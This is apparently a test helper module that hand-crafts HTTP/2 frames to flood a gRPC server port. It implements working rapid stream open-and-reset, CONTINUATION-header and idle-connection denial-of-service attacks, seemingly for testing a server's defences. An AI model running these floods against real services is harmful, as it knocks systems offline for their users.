"""Attacks on a port by strangers: handwritten HTTP/2, from a chosen source address.

To run one as a program: ``python -m tests.fakes.strangers KIND ADDRESS SOURCE SECONDS``.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import sys
import time
from collections.abc import Callable

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _CONTINUATION = 0, 1, 3, 4, 9
_END_HEADERS = 4
_TIMEOUT_S = 3.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return an HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def headers(path: str, *more: tuple[str, bytes]) -> bytes:
    """Return the headers of a call, all as literals without compression."""
    fields = [(":method", b"POST"), (":scheme", b"http"), (":path", path.encode()), (":authority", b"x")]
    fields += [("te", b"trailers"), ("content-type", b"application/grpc"), *more]
    return b"".join(b"\0" + _text(name.encode()) + _text(value) for name, value in fields)


def _text(data: bytes) -> bytes:
    if len(data) < 0x7F:
        return bytes([len(data)]) + data
    rest, size = b"\x7f", len(data) - 0x7F
    while size >= 0x80:
        rest, size = rest + bytes([size & 0x7F | 0x80]), size >> 7
    return rest + bytes([size]) + data


def connect(address: str, source: str) -> socket.socket:
    """Connect from a given source address."""
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=_TIMEOUT_S, source_address=(source, 0))


def greet(sock: socket.socket) -> None:
    """Send the HTTP/2 preface."""
    sock.sendall(_PREFACE + frame(_SETTINGS, 0, 0))


def _discard(sock: socket.socket) -> None:
    """Read what has arrived, without waiting."""
    sock.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while sock.recv(1 << 16):
            pass
    sock.settimeout(_TIMEOUT_S)


def flood_streams(address: str, source: str, seconds: float, *, is_reset: bool = True) -> int:
    """Open streams on one connection at a time, optionally reset them, and return their number."""
    head, ends, opened = headers("/lightning_sm.DataHost/Fetch"), time.monotonic() + seconds, 0
    while time.monotonic() < ends:
        # Reconnect whenever the server closes the connection.
        with contextlib.suppress(OSError), connect(address, source) as sock:
            greet(sock)
            stream = 1
            while time.monotonic() < ends and stream < 60_000:
                calls: list[bytes] = []
                for number in range(100):
                    calls.append(frame(_HEADERS, _END_HEADERS, stream + 2 * number, head))
                    if is_reset:
                        calls.append(frame(_RESET, 0, stream + 2 * number, b"\0\0\0\x08"))
                sock.sendall(b"".join(calls))
                stream, opened = stream + 200, opened + 100
                _discard(sock)
    return opened


def flood_continuations(address: str, source: str, num_bytes: int, seconds: float) -> int:
    """Send endless headers on one connection after another, and return the number of bytes sent."""
    big = headers("/lightning_sm.DataHost/Status", *((f"x-{number}", b"v" * 60_000) for number in range(4)))
    first, rest = big[:16_000], big[16_000:]
    sent, ends = 0, time.monotonic() + seconds
    while sent < num_bytes and time.monotonic() < ends:
        with contextlib.suppress(OSError), connect(address, source) as sock:
            greet(sock)
            sock.sendall(frame(_HEADERS, 0, 1, first))
            for start in [*range(0, len(rest), 16_000)] * 40:
                part = rest[start : start + 16_000]
                sock.sendall(frame(_CONTINUATION, 0, 1, part))
                sent += len(part)
    return sent


def connect_silently(address: str, source: str, number: int) -> list[socket.socket]:
    """Return connections that send the HTTP/2 preface and nothing else."""
    made = []
    for _ in range(number):
        with contextlib.suppress(OSError):
            sock = connect(address, source)
            made.append(sock)
            greet(sock)
    return made


FLOODS: dict[str, Callable[[str, str, float], int]] = {
    "opened and reset": flood_streams,
    "opened": lambda address, source, seconds: flood_streams(address, source, seconds, is_reset=False),
    "continued": lambda address, source, seconds: flood_continuations(address, source, 1 << 40, seconds),
}

if __name__ == "__main__":
    kind, to, own, duration = sys.argv[1:]
    FLOODS[kind](to, own, float(duration))
